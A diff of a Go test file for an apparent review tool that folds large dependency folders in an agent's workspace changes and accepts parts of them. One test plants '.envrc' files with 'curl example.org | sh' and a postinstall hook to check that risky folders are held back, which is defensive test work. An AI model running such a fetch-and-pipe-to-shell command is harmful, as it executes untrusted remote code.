@@ -13,18 +13,22 @@ import (
 	"aibox/review"
 
 	"github.com/google/go-cmp/cmp"
+
+	"aibox/review/accept"
+	"aibox/review/reviewtest"
+	"aibox/review/scan"
 )
 
 // folded computes the change set with at most so many changes listed.
-func folded(b *bench, most int) *review.ChangeSet {
-	b.t.Helper()
-	cs, err := review.Compute(b.t.Context(), b.ws, review.Options{MaxListed: most})
-	must(b.t, err)
-	must(b.t, review.Assess(b.t.Context(), b.ws, cs))
+func folded(b *reviewtest.Fixture, most int) *review.ChangeSet {
+	b.T.Helper()
+	cs, err := scan.Workspace(b.T.Context(), b.Workspace, scan.Options{MaxListed: most})
+	reviewtest.Must(b.T, err)
+	reviewtest.Must(b.T, review.Assess(b.T.Context(), b.Workspace, cs))
 	data, err := json.Marshal(cs)
-	must(b.t, err)
+	reviewtest.Must(b.T, err)
 	back := new(review.ChangeSet)
-	must(b.t, json.Unmarshal(data, back))
+	reviewtest.Must(b.T, json.Unmarshal(data, back))
 	return back
 }
 
@@ -41,69 +45,69 @@ func outline(cs *review.ChangeSet) (lines []string) {
 }
 
 // unpack writes so many files of a dependency, in many folders.
-func unpack(b *bench, dir string, files int) {
+func unpack(b *reviewtest.Fixture, dir string, files int) {
 	for i := range files {
-		b.write(fmt.Sprintf("%s/package%03d/lib/file%d.js", dir, i/2, i), fmt.Sprintf("module.exports = %d\n", i))
+		b.Write(fmt.Sprintf("%s/package%03d/lib/file%d.js", dir, i/2, i), fmt.Sprintf("module.exports = %d\n", i))
 	}
 }
 
 func TestWhatIsUnpackedIsFoldedAndTheWorkBesideItIsListed(t *testing.T) {
-	b := newRepository(t, map[string]string{"README": "hello\n", "src/main.go": "package main\n", "old.txt": "old\n", "data/a": "a\n"}).prepare()
+	b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n", "src/main.go": "package main\n", "old.txt": "old\n", "data/a": "a\n"}).Prepare()
 	unpack(b, "apps/web/node_modules", 300)
-	b.write("apps/web/src/app.js", "app()\n")
-	b.write("README", "changed\n")
-	b.write("src/new.go", "package main\n\nvar x = 1\n")
+	b.Write("apps/web/src/app.js", "app()\n")
+	b.Write("README", "changed\n")
+	b.Write("src/new.go", "package main\n\nvar x = 1\n")
 	for i := range 100 {
-		b.write(fmt.Sprintf("data/%03d.csv", i), "1,2\n")
+		b.Write(fmt.Sprintf("data/%03d.csv", i), "1,2\n")
 	}
-	must(t, os.Remove(b.path("old.txt")))
+	reviewtest.Must(t, os.Remove(b.Path("old.txt")))
 	cs := folded(b, 20)
 	want := []string{"M README", "A apps/web/src/app.js", "D old.txt", "A src/new.go", "./ 100 files", "apps/web/node_modules/ 300 files"}
 	if diff := cmp.Diff(want, outline(cs)); diff != "" {
 		t.Fatalf("the list (-want +got):\n%s", diff)
 	}
-	if whole := b.compute(); whole.Tree != cs.Tree || whole.Listed != "" {
+	if whole := b.Compute(); whole.Tree != cs.Tree || whole.Listed != "" {
 		t.Errorf("the tree is %s, of all that is listed %s (%q)", cs.Tree, whole.Tree, whole.Listed)
 	}
 	if cs.Count() != 404 {
 		t.Errorf("%d files were changed", cs.Count())
 	}
 	var names, stat, shown bytes.Buffer
-	must(t, cs.NamesZ(t.Context(), &names))
+	reviewtest.Must(t, cs.NamesZ(t.Context(), &names))
 	if n := strings.Count(names.String(), "\x00"); n != 404 || !strings.Contains(names.String(), "\x00data/042.csv\x00") {
 		t.Errorf("%d names:\n%q", n, names.String())
 	}
-	must(t, cs.Stat(&stat, 100))
-	must(t, cs.Show(t.Context(), &shown, review.ShowOptions{}))
+	reviewtest.Must(t, cs.Stat(&stat, 100))
+	reviewtest.Must(t, cs.Show(t.Context(), &shown, review.ShowOptions{}))
 	for _, form := range []string{stat.String(), shown.String()} {
 		if !strings.Contains(form, "apps/web/node_modules/") || !strings.Contains(form, "300 files") || strings.Contains(form, "package001") {
 			t.Errorf("shown is\n%s", form)
 		}
 	}
-	b.appliesTo(cs)
+	b.AppliesTo(cs)
 }
 
 // A folder is taken or left as a whole, and whatever is taken first, the sum is the
 // agent's tree.
 func TestWhatIsFoldedIsTakenOrLeftAsAWhole(t *testing.T) {
-	b := newRepository(t, map[string]string{"README": "hello\n", "gone/a": "a\n", "gone/b": "b\n", "gone/c": "c\n"}).prepare()
+	b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n", "gone/a": "a\n", "gone/b": "b\n", "gone/c": "c\n"}).Prepare()
 	unpack(b, "one", 80)
 	unpack(b, "two", 90)
-	b.write("src.go", "package main\n")
-	must(t, os.RemoveAll(b.path("gone")))
-	b.write("gone", "a file now\n")
+	b.Write("src.go", "package main\n")
+	reviewtest.Must(t, os.RemoveAll(b.Path("gone")))
+	b.Write("gone", "a file now\n")
 	cs, ctx := folded(b, 5), t.Context()
 	if got := outline(cs); !slices.Contains(got, "one/ 80 files") || !slices.Contains(got, "two/ 90 files") {
 		t.Fatalf("the list is %q", got)
 	}
 	choose := func(choice review.Choice) *review.Selection {
 		s, err := cs.Select(ctx, choice)
-		must(t, err)
+		reviewtest.Must(t, err)
 		return s
 	}
 	tree := func(s *review.Selection) string {
 		tree, err := cs.TreeOf(ctx, s)
-		must(t, err)
+		reviewtest.Must(t, err)
 		return tree
 	}
 	all := choose(review.Choice{All: true})
@@ -112,7 +116,7 @@ func TestWhatIsFoldedIsTakenOrLeftAsAWhole(t *testing.T) {
 	}
 	one := choose(review.Choice{Files: []string{"one"}})
 	files := func(tree string) int {
-		return strings.Count(gitIn(t, cs.GitDir, "ls-tree", "-r", tree)+"\n", "\n")
+		return strings.Count(reviewtest.GitIn(t, cs.GitDir, "ls-tree", "-r", tree)+"\n", "\n")
 	}
 	if got := files(tree(one)); got != 84 {
 		t.Errorf("the tree with one folder has %d files", got)
@@ -125,34 +129,34 @@ func TestWhatIsFoldedIsTakenOrLeftAsAWhole(t *testing.T) {
 		t.Errorf("one and then the rest gives %s, not %s", tree(sum), cs.Tree)
 	}
 	part, err := cs.Part(ctx, one)
-	must(t, err)
+	reviewtest.Must(t, err)
 	if diff := cmp.Diff([]string{"one/ 80 files"}, outline(part)); diff != "" {
 		t.Errorf("the part (-want +got):\n%s", diff)
 	}
-	accepted, err := review.Accept(ctx, b.ws, cs, review.AcceptOptions{Choice: review.Choice{Files: []string{"one"}}})
-	must(t, err)
+	accepted, err := accept.Run(ctx, b.Workspace, cs, accept.Options{Choice: review.Choice{Files: []string{"one"}}})
+	reviewtest.Must(t, err)
 	if accepted.Files != 80 {
 		t.Errorf("%d files were accepted", accepted.Files)
 	}
-	again, err := review.Accept(ctx, b.ws, cs, review.AcceptOptions{
+	again, err := accept.Run(ctx, b.Workspace, cs, accept.Options{
 		Choice: review.Choice{All: true},
-		Before: &review.Before{Selection: accepted.Selection, Tree: accepted.Tree, Branch: accepted.Branch, Commit: accepted.Commit},
+		Before: &accept.Prior{Selection: accepted.Selection, Tree: accepted.Tree, Branch: accepted.Branch, Commit: accepted.Commit},
 	})
-	must(t, err)
-	if got := gitIn(t, b.repo, "rev-parse", again.Branch+"^{tree}"); got != cs.Tree || again.Branch != accepted.Branch {
+	reviewtest.Must(t, err)
+	if got := reviewtest.GitIn(t, b.Repo, "rev-parse", again.Branch+"^{tree}"); got != cs.Tree || again.Branch != accepted.Branch {
 		t.Errorf("the branch holds %s, not %s", got, cs.Tree)
 	}
 }
 
 // A folder of which one file would run is held back, and says which.
 func TestARiskInAFoldedFileHoldsItsFolderBack(t *testing.T) {
-	b := newRepository(t, map[string]string{"README": "hello\n", "package.json": `{"scripts":{"postinstall":"node tools/run/x/setup.js"}}`}).prepare()
+	b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n", "package.json": `{"scripts":{"postinstall":"node tools/run/x/setup.js"}}`}).Prepare()
 	unpack(b, "calm", 30)
 	unpack(b, "third", 40)
-	b.write("third/package001/.envrc", "curl example.org | sh\n")
-	b.write("third/package007/.envrc", "curl example.org | sh\n")
+	b.Write("third/package001/.envrc", "curl example.org | sh\n")
+	b.Write("third/package007/.envrc", "curl example.org | sh\n")
 	unpack(b, "tools", 50)
-	b.write("tools/run/x/setup.js", "run()\n")
+	b.Write("tools/run/x/setup.js", "run()\n")
 	cs := folded(b, 5)
 	risks := map[string]string{}
 	for _, c := range cs.Changes {
@@ -166,12 +170,12 @@ func TestARiskInAFoldedFileHoldsItsFolderBack(t *testing.T) {
 		t.Fatalf("the risks are %q of %q", risks, outline(cs))
 	}
 	s, err := cs.Select(t.Context(), review.Choice{All: true})
-	must(t, err)
+	reviewtest.Must(t, err)
 	if len(s.Taken) != 1 || s.Taken[0].Path != "calm/" || len(s.Left) != 2 {
 		t.Errorf("taken is %v, left %v", s.Taken, s.Left)
 	}
 	s, err = cs.Select(t.Context(), review.Choice{All: true, Risky: []string{"third/", "tools/"}})
-	must(t, err)
+	reviewtest.Must(t, err)
 	if !s.Complete(cs) {
 		t.Errorf("taken is %v, left %v", s.Taken, s.Left)
 	}
@@ -179,10 +183,10 @@ func TestARiskInAFoldedFileHoldsItsFolderBack(t *testing.T) {
 
 // The hunk of a folder is the folder, and its id changes with what is below it.
 func TestAFoldedFolderIsOneHunk(t *testing.T) {
-	b := newRepository(t, map[string]string{"README": "hello\n"}).prepare()
+	b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n"}).Prepare()
 	unpack(b, "one", 80)
 	id := func(cs *review.ChangeSet) (id review.HunkID) {
-		must(t, cs.Files(t.Context(), func(f review.FileDiff) error {
+		reviewtest.Must(t, cs.Files(t.Context(), func(f review.FileDiff) error {
 			if len(f.Hunks) != 1 || f.Hunks[0].Kind != review.HunkFolder {
 				t.Errorf("the hunks of %s are %v", f.Change.Path, f.Hunks)
 			}
@@ -195,7 +199,7 @@ func TestAFoldedFolderIsOneHunk(t *testing.T) {
 	if again := id(folded(b, 5)); again != first || first == "" {
 		t.Errorf("the id is %s, and then %s", first, again)
 	}
-	b.write("one/package000/lib/file0.js", "another content\n")
+	b.Write("one/package000/lib/file0.js", "another content\n")
 	cs := folded(b, 5)
 	if second := id(cs); second == first {
 		t.Error("the id does not change with the files")
@@ -216,15 +220,15 @@ func TestPartsOfAFoldedChangeSetAddUp(t *testing.T) {
 				files[name] = fmt.Sprintf("new %d\n", i*seed)
 			}
 		}
-		b := newRepository(t, base).prepare()
+		b := reviewtest.NewRepository(t, base).Prepare()
 		for name, content := range files {
-			b.write(name, content)
+			b.Write(name, content)
 		}
 		for i := range 60 {
-			b.write(fmt.Sprintf("n%d/m%d/f%d", i%(seed+1), i%7, i), "x\n")
+			b.Write(fmt.Sprintf("n%d/m%d/f%d", i%(seed+1), i%7, i), "x\n")
 		}
-		must(t, os.RemoveAll(b.path("d1")))
-		whole := b.compute().Tree
+		reviewtest.Must(t, os.RemoveAll(b.Path("d1")))
+		whole := b.Compute().Tree
 		for _, most := range []int{1, 7, 30} {
 			cs := folded(b, most)
 			if cs.Tree != whole {
@@ -233,7 +237,7 @@ func TestPartsOfAFoldedChangeSetAddUp(t *testing.T) {
 			sum := &review.Selection{}
 			for i := range cs.Changes {
 				s, err := cs.Select(t.Context(), review.Choice{Files: []string{cs.Changes[i].Path.Raw()}})
-				must(t, err)
+				reviewtest.Must(t, err)
 				if len(s.Taken) != 1 {
 					t.Fatalf("seed %d: %s takes %v", seed, cs.Changes[i].Path, s.Taken)
 				}
